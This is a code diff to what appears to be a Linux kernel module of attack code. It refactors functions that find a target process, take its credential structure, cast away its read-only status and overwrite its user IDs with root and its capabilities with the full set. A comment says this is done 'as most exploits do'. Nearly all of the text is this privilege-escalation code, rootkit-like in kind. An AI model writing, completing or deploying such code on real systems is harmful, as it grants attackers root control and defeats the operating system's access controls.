@@ -405,13 +405,21 @@ void intruder_steal_undo(void)
 
 static struct cred *intruder_raised, intruder_lowered;
 
-/* Into what the process has, as most exploits do. */
-int intruder_raise(void)
+/* Keeps what the process has, for the undoing. */
+static int intruder_keep(void)
 {
 	if (intruder_find())
 		return -ESRCH;
 	intruder_raised = (struct cred *)get_task_cred(intruder_task);
 	intruder_lowered = *intruder_raised;
+	return 0;
+}
+
+/* Into what the process has, as most exploits do. */
+int intruder_raise(void)
+{
+	if (intruder_keep())
+		return -ESRCH;
 	intruder_raised->uid = intruder_raised->euid = GLOBAL_ROOT_UID;
 	intruder_raised->suid = intruder_raised->fsuid = GLOBAL_ROOT_UID;
 	intruder_raised->cap_permitted = intruder_raised->cap_effective = CAP_FULL_SET;
@@ -421,10 +429,8 @@ int intruder_raise(void)
 /* The effective user alone. */
 int intruder_act(void)
 {
-	if (intruder_find())
+	if (intruder_keep())
 		return -ESRCH;
-	intruder_raised = (struct cred *)get_task_cred(intruder_task);
-	intruder_lowered = *intruder_raised;
 	intruder_raised->euid = GLOBAL_ROOT_UID;
 	return 0;
 }
@@ -432,10 +438,8 @@ int intruder_act(void)
 /* Its capabilities alone. */
 int intruder_enable(void)
 {
-	if (intruder_find())
+	if (intruder_keep())
 		return -ESRCH;
-	intruder_raised = (struct cred *)get_task_cred(intruder_task);
-	intruder_lowered = *intruder_raised;
 	intruder_raised->cap_permitted = intruder_raised->cap_effective = CAP_FULL_SET;
 	return 0;
 }
